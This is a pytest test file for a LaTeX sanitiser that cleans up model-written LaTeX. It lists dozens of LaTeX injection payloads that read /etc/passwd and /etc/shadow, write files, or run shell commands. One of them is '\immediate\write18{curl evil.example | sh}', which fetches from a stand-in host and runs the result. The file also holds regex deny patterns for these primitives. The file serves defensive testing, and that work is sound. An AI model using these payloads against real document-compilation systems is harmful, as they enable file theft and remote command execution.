"""The LaTeX sanitiser against hostile and sloppy model output."""

from __future__ import annotations

import re

import pytest

from eurekaclaw.agents.writer.escape import escape_text, source_block
from eurekaclaw.agents.writer.sanitize import sanitize_latex

HOSTILE = [
    r"\input{/etc/passwd}",
    r"\include{/etc/shadow}",
    r"\InputIfFileExists{/etc/passwd}{}{}",
    r"\immediate\write18{curl evil.example | sh}",
    r"\newwrite\out \immediate\openout\out=pwned.tex \write\out{x}",
    r"\newread\in \openin\in=/etc/passwd \read\in to \line",
    r"\catcode`\|=0 |input{/etc/passwd}",
    r"\^^69nput{/etc/passwd}",
    r"^^5cinput{/etc/passwd}",
    r"\csname input\endcsname{/etc/passwd}",
    r"\expandafter\csname in\string put\endcsname",
    r"\usepackage{shellesc}\ShellEscape{ls}",
    r"\def\eclevel#1{pwned}",
    r"\renewcommand{\ecmargin}[1]{pwned}",
    r"\let\maketitle\relax",
    r"\makeatletter\@@input /etc/passwd",
    r"\begin{filecontents*}{x.tex}\input{/etc/passwd}\end{filecontents*}",
    r"\begin{verbatim}\input{/etc/passwd}\end{verbatim}",
    r"\verb|\input{/etc/passwd}|",
    r"\directlua{os.execute('ls')}",
    r"\pdffiledump length 100 {/etc/passwd}",
    r"\href{run:/bin/sh}{click}",
    r"\loop\iftrue\repeat",
    r"\end{document}\input{/etc/passwd}",
    r"\begin{tikzpicture}\begin{axis}\addplot table {/etc/passwd};\end{axis}\end{tikzpicture}",
    # expl3: with \ExplSyntaxOn, `_` and `:` are letters and these are file and shell primitives
    r"\ExplSyntaxOn \iow_new:N \g_my_iow \iow_open:Nn \g_my_iow {pwned.tex} \iow_now:Nn \g_my_iow {pwned} \ExplSyntaxOff",
    r"\ExplSyntaxOn \ior_open:Nn \g_tmpa_ior {/etc/passwd} \ExplSyntaxOff",
    r"\ExplSyntaxOn \sys_shell_now:n {touch~pwned} \ExplSyntaxOff",
    r"\ExplSyntaxOn \file_input:n {/etc/passwd} \ExplSyntaxOff",
    r"\ExplSyntaxOn \tex_openout:D 15 = x.tex \tex_immediate:D \tex_write:D 15 {x} \ExplSyntaxOff",
    r"\ExplSyntaxOn \cs_set:Npn \eclevel #1 {pwned} \ExplSyntaxOff",
    r"\ProvidesExplFile{x}{2024}{1}{x} \iow_term:n {pwned}",
    r"\NewDocumentCommand{\eclevel}{m}{pwned}",
    r"\UseName{iow_open:Nn}",
    r"\obeyspaces\catcode 32=0 input /etc/passwd",
    r"\AddToHook{shipout}{\input{/etc/passwd}}",
    r"\batchmode\tracingall",
]
EXPL3 = re.compile(
    r"\\(ExplSyntax|ProvidesExpl|iow|ior|sys|file|tex|cs|NewDocument|UseName|obeyspaces|AddToHook|batchmode|tracing)"
)
FORBIDDEN = re.compile(
    r"\\(input|include|InputIfFileExists|immediate|write|openout|openin|read|newwrite|newread|"
    r"catcode|csname|endcsname|usepackage|ShellEscape|def|renewcommand|let|makeatletter|"
    r"verb|directlua|pdffiledump|href|loop|addplot|string|expandafter)(?![A-Za-z])"
)


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_latex_is_neutralised(hostile: str) -> None:
    result = sanitize_latex(f"Before. {hostile} After.", mode="prose")
    assert not FORBIDDEN.search(result.text), result.text
    assert "^^" not in result.text
    assert "pwned" not in result.text
    assert "\\end{document}" not in result.text
    assert "filecontents" not in result.text
    assert result.changed
    assert "Before." in result.text and "After." in result.text
    assert not EXPL3.search(result.text), result.text


@pytest.mark.parametrize("hostile", HOSTILE)
def test_block_mode_flags_hostile_latex(hostile: str) -> None:
    # statements are never edited: a changed block is shown as source instead
    assert sanitize_latex(hostile, mode="block").changed


def test_expl3_lookalikes_in_mathematics_are_kept() -> None:
    # subscripts after \int, \exp, \mu are everyday mathematics, not expl3 names
    text = r"$\int_0^1 f$, $\exp_{x}$, $\mu_i$, $\sum_{i} x_i$, $\Delta_{\min}$, $\tex$ and $\cs_1$"
    result = sanitize_latex(text, mode="block")
    assert result.text == text and not result.changed


def test_clean_statement_passes_block_mode_unchanged() -> None:
    text = r"For all $x \ge 0$, \[ \sum_{i=1}^n a_i^2 \le \Big(\sum_i a_i\Big)^2 \] with \label{eq:1} & no edits."
    result = sanitize_latex(text, mode="block")
    assert result.text == text
    assert not result.changed


def test_stray_specials_are_escaped_only_outside_math() -> None:
    result = sanitize_latex(r"It costs 50% & uses x_1 #3 while $x_1^2 \le y$ holds.", mode="prose")
    assert result.text == r"It costs 50\% \& uses x\_1 \#3 while $x_1^2 \le y$ holds."


def test_alignment_ampersands_survive() -> None:
    text = r"\begin{align} a &= b \\ c &= d \end{align} but x & y"
    assert sanitize_latex(text).text == r"\begin{align} a &= b \\ c &= d \end{align} but x \& y"


def test_lone_dollar_is_a_currency_sign() -> None:
    assert sanitize_latex("costs $5 today").text == r"costs \$5 today"


def test_unbalanced_braces_and_environments_are_closed() -> None:
    assert sanitize_latex(r"\textbf{bold").text == r"\textbf{bold}"
    assert sanitize_latex(r"\begin{itemize}\item a").text == r"\begin{itemize}\item a\end{itemize}"
    assert sanitize_latex(r"} a \end{center}").text == " a "
    assert sanitize_latex(r"\begin{center}{x\end{center}").text == r"\begin{center}{x}\end{center}"


def test_theorem_environments_in_prose_are_removed_with_their_content() -> None:
    result = sanitize_latex(r"See below. \begin{theorem}2+2=5\end{theorem}\begin{proof}trivial\end{proof} Done.")
    assert result.text == "See below.  Done."


def test_citations_are_filtered_to_verified_keys() -> None:
    text = r"As in \citet[Thm.~2]{good,bad} and \citep{bad}."
    result = sanitize_latex(text, cite_keys={"good"})
    assert result.text == r"As in \citet[Thm.~2]{good} and ."
    assert any("bad" in r for r in result.removed)


def test_references_are_filtered_to_known_labels() -> None:
    result = sanitize_latex(r"Lemma~\ref{lem:L2} and \eqref{eq:nowhere}\label{x}.", labels={"lem:L2"})
    assert result.text == r"Lemma~\ref{lem:L2} and ."


def test_escape_text_prints_everything_literally() -> None:
    assert escape_text(r"a\b{c}$&#%_^~") == (r"a\textbackslash{}b\{c\}\$\&\#\%\_\^{}\textasciitilde{}")
    # characters pdflatex cannot set become code points; declared math symbols stay
    assert escape_text("≤ 中") == "≤ [U+4E2D]"


def test_source_block_shows_latex_source_as_text() -> None:
    block = source_block("\\input{x}\n\n$a_1$")
    assert "\\textbackslash{}input\\{x\\}" in block
    assert "\\$a\\_1\\$" in block
    assert not FORBIDDEN.search(block)
